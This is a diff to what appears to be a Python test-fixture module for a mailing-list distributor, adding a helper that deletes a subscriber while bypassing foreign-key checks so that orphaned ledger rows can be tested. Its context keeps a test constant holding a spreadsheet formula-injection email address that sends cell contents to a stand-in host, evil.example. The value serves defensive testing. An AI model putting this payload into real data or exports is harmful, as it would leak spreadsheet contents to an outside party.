@@ -6,8 +6,10 @@ from __future__ import annotations
 from dataclasses import dataclass
 from datetime import datetime, timedelta
 
+from sqlalchemy import text
+
 from distributor.core.config import Settings
-from distributor.core.db import session_scope
+from distributor.core.db import get_engine, is_sqlite, session_scope
 from distributor.core.models import Delivery, Release, Subscriber, utcnow
 
 HOSTILE_EMAIL = '=HYPERLINK("https://evil.example/?d="&A1,"x")@example.com'
@@ -109,3 +111,21 @@ def build_ledger(settings: Settings) -> Ledger:
         )
         session.flush()
         return Ledger(release.id, old.id, published)
+
+
+def orphan(settings: Settings, email: str) -> None:
+    """Delete a subscriber but keep their ledger rows, as if erasure kept them anonymised
+    (it does not today; the report must still show such rows)."""
+    engine = get_engine(settings)
+    with engine.connect() as conn:
+        raw = conn.connection.driver_connection
+        assert raw is not None
+        if is_sqlite(engine):
+            conn.rollback()  # out of the transaction: SQLite ignores the pragma inside one
+            raw.execute("PRAGMA foreign_keys=OFF")
+            raw.execute("DELETE FROM subscribers WHERE email = ?", (email,))
+            raw.execute("PRAGMA foreign_keys=ON")
+        else:  # the FK triggers (the cascade) do not fire for a replica
+            conn.execute(text("SET LOCAL session_replication_role = replica"))
+            conn.execute(text("DELETE FROM subscribers WHERE email = :e"), {"e": email})
+            conn.commit()
